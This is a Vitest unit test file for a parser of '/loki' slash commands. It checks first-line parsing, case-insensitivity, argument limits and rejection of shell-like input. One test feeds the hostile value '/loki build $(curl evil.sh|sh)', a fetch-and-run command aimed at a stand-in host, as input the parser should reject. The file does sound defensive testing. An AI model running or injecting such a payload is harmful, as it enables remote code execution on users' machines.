import { describe, expect, it } from 'vitest';
import { parseCommand } from '../../app/parse-command.js';

describe('parseCommand', () => {
  it('reads every command from the first line only', () => {
    for (const name of ['build', 'grill', 'plan', 'verify', 'status', 'stop', 'retry', 'help']) {
      expect(parseCommand(`/loki ${name}\nmore text`)).toEqual({ kind: 'command', command: { name, args: [] } });
    }
    expect(parseCommand('please look\n/loki build')).toEqual({ kind: 'none' });
    expect(parseCommand('/lokibuild')).toEqual({ kind: 'none' });
  });

  it('treats a bare /loki as help and is case-insensitive on the name', () => {
    expect(parseCommand('/loki')).toEqual({ kind: 'command', command: { name: 'help', args: [] } });
    expect(parseCommand('  /loki   BUILD  ')).toEqual({ kind: 'command', command: { name: 'build', args: [] } });
  });

  it('accepts plain-word arguments and rejects anything shell-like instead of escaping it', () => {
    expect(parseCommand('/loki build codex')).toEqual({ kind: 'command', command: { name: 'build', args: ['codex'] } });
    const hostile = parseCommand('/loki build $(curl evil.sh|sh)');
    expect(hostile.kind).toBe('invalid');
    expect(parseCommand('/loki nuke')).toEqual({ kind: 'invalid', problem: '`nuke` is not a Loki command' });
    expect(parseCommand('/loki build a b c d e').kind).toBe('invalid');
  });
});
